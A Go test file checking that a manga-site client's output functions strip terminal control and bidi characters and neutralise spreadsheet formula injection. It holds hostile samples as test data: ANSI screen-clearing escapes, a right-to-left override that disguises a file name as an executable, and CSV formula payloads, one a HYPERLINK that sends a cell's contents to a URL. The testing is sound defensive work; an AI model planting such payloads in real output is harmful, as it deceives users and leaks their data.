package cli_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"io"
	"net/netip"
	"reflect"
	"strings"
	"sync"
	"testing"
	"unicode"

	"golang.org/x/text/encoding"
	xunicode "golang.org/x/text/encoding/unicode"

	"github.com/mangadex-go/mangadex/api/cli"
)

// hostile are texts as users write them who mean harm, or paste from somewhere.
var hostile = []string{
	"two\nlines", "two\r\nlines", "over\rwritten", "\x1b[2J\x1b[1;1Hcleared", "\x1b]0;window\a", "\u009b31mred", "bell\a", "back\b\b\b",
	"a\u202egpj.exe", "\u2066isolated\u2069", "\u200emark", "a\u2028b", "a\u2029b", "\u0085next", "\x00", "\x7f", "broken \xff\xc3",
	"\U000e0041tag",
}

func isHarmful(r rune) bool {
	return unicode.In(r, unicode.Cc, unicode.Bidi_Control, unicode.Zl, unicode.Zp)
}

func TestLinef(t *testing.T) {
	t.Parallel()
	for _, text := range hostile {
		for _, arg := range []any{text, errors.New(text), stringer(text)} {
			if line := cli.Linef("%v", arg); strings.ContainsFunc(line, isHarmful) {
				t.Errorf("%T %q: %q", arg, text, line)
			}
		}
	}
	if line := cli.Linef("%s: %d of %v, %.1f", "Kettles & <Pots>", 3, netip.MustParseAddr("::1"), 2.5); line != "Kettles & <Pots>: 3 of ::1, 2.5" {
		t.Error(line)
	}
}

type stringer string

func (s stringer) String() string { return string(s) }

// TestWriteJSON has no harmful character in it, and loses none.
func TestWriteJSON(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	if err := cli.WriteJSON(&b, hostile); err != nil {
		t.Fatal(err)
	}
	if text := strings.ReplaceAll(b.String(), "\n", ""); strings.ContainsFunc(text, isHarmful) || strings.Contains(text, "\U000e0041") {
		t.Errorf("%q", text)
	}
	var got []string
	if err := json.Unmarshal(b.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	for i, text := range hostile {
		if text = strings.ToValidUTF8(text, "\ufffd"); !strings.Contains(text, "\ufffd") && got[i] != text {
			t.Errorf("%q comes back as %q", text, got[i])
		}
	}
}

// isFormula is what spreadsheets do: https://owasp.org/www-community/attacks/CSV_Injection
func isFormula(cell string) bool {
	return strings.IndexAny(strings.TrimLeft(cell, ` "`), "=+-@\t\r＝＋－＠") == 0
}

func TestWriteCSV(t *testing.T) {
	t.Parallel()
	titles := append([]string{
		`=HYPERLINK("http://example.org/?"&A1)`, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "\u200e=1", "a;=1", `a;"=1"`, "a,=1", `"=1"`, "'=1", "a; - b",
		"a = b", "plain, with a comma", "=", "x-men", "",
	}, hostile...)
	var lines [][]string
	for _, title := range titles {
		lines = append(lines, []string{"id", title, "end"})
	}
	var b bytes.Buffer
	if err := cli.WriteCSV(&b, lines); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b.Bytes(), []byte("\xef\xbb\xbf")) {
		t.Error("a spreadsheet does not see that it is UTF-8")
	}
	got, err := cli.ReadCSV(b.Bytes())
	if err != nil || len(got) != len(titles) {
		t.Fatalf("%d lines, %v", len(got), err)
	}
	for _, plain := range []string{"a = b", "plain, with a comma", "x-men", "=", "+1", `=HYPERLINK("http://example.org/?"&A1)`} {
		found := false
		for _, line := range got {
			found = found || line[1] == plain
		}
		if !found {
			t.Errorf("%q does not come back", plain)
		}
	}
	// A program reads the cells between any separators of its own.
	for line := range strings.Lines(strings.TrimPrefix(b.String(), "\ufeff")) {
		for cell := range strings.SplitSeq(strings.TrimSpace(line), ";") {
			if isFormula(strings.TrimPrefix(cell, "id,")) {
				t.Errorf("%q has a formula", line)
			}
		}
		if strings.ContainsFunc(strings.TrimSuffix(line, "\n"), isHarmful) {
			t.Errorf("%q has a control character", line)
		}
	}
}

// TestReadCSV reads what spreadsheets make of a table when they save it.
func TestReadCSV(t *testing.T) {
	t.Parallel()
	want := [][]string{{"id", "title", "rating"}, {"1", "Löffel, Gabel", "8"}, {"2", "ページ", ""}}
	encode := func(e encoding.Encoding, text string) string {
		out, err := e.NewEncoder().String(text)
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	commas := "id,title,rating\n1,\"Löffel, Gabel\",8\n2,ページ,\n"
	tabs := "id\ttitle\trating\r\n1\tLöffel, Gabel\t8\r\n2\tページ\t\r\n"
	for name, text := range map[string]string{
		"commas":          commas,
		"mark":            "\ufeff" + commas,
		"lines of DOS":    strings.ReplaceAll(commas, "\n", "\r\n"),
		"semicolons":      "id;title;rating\n1;Löffel, Gabel;8\n2;ページ;\n",
		"trailing commas": "id,title,rating,,\n1,\"Löffel, Gabel\",8,,\n2,ページ,,,\n,,,,\n",
		"short lines":     "id,title,rating\n1,\"Löffel, Gabel\",8\n2,ページ\n\n",
		"tabs":            tabs,
		"UTF-16LE":        encode(xunicode.UTF16(xunicode.LittleEndian, xunicode.UseBOM), tabs),
		"UTF-16BE":        encode(xunicode.UTF16(xunicode.BigEndian, xunicode.UseBOM), commas),
		"quoted names":    "\"id\";\"title\";\"rating\"\n\"1\";\"Löffel, Gabel\";\"8\"\n\"2\";\"ページ\";\"\"\n",
	} {
		got, err := cli.ReadCSV([]byte(text))
		if err != nil || !reflect.DeepEqual(got, want) {
			t.Errorf("%s: %q, %v", name, got, err)
		}
	}
	if _, err := cli.ReadCSV([]byte("a,b\n1,\"2\n")); err == nil {
		t.Error("a table that is cut off is read")
	}
}

// TestOutput lets nothing through to a terminal, even if a program writes it as it is and in pieces.
func TestOutput(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	out := cli.NewOutput(&b, nil)
	for _, text := range hostile {
		for i := range len(text) {
			if n, err := out.Write([]byte(text[i : i+1])); n != 1 || err != nil {
				t.Fatal(n, err)
			}
		}
	}
	if _, err := out.Write([]byte("ページ\tend\n")); err != nil {
		t.Fatal(err)
	}
	for _, r := range b.String() {
		if r != '\n' && r != '\t' && unicode.In(r, unicode.Cc, unicode.Bidi_Control) {
			t.Errorf("%U comes through", r)
		}
	}
	if !strings.HasSuffix(b.String(), "ページ\tend\n") {
		t.Errorf("%q", b.String())
	}
}

// BenchmarkSafe is 1 MB through every way out of a program, and the way in.
func BenchmarkSafe(b *testing.B) {
	for kind, unit := range map[string]string{"hostile": "=\x1b\u202ea;", "quotes": `"`, "semicolons": ";", "Japanese": "本", "emoji": "👩\u200d🚀", "marks": "e\u0301\u0301"} {
		text := strings.Repeat(unit, 1<<20/len(unit))
		table := sync.OnceValue(func() []byte {
			var b bytes.Buffer
			cli.WriteCSV(&b, [][]string{{"id", "title"}, {"1", text}})
			return b.Bytes()
		})
		for name, way := range map[string]func(){
			"line":    func() { cli.Linef("%s", text) },
			"JSON":    func() { cli.WriteJSON(io.Discard, text) },
			"CSV":     func() { cli.WriteCSV(io.Discard, [][]string{{text}}) },
			"output":  func() { cli.NewOutput(io.Discard, nil).Write([]byte(text)) },
			"readCSV": func() { cli.ReadCSV(table()) },
		} {
			b.Run(name+"/"+kind, func(b *testing.B) {
				b.SetBytes(int64(len(text)))
				for b.Loop() {
					way()
				}
			})
		}
	}
}
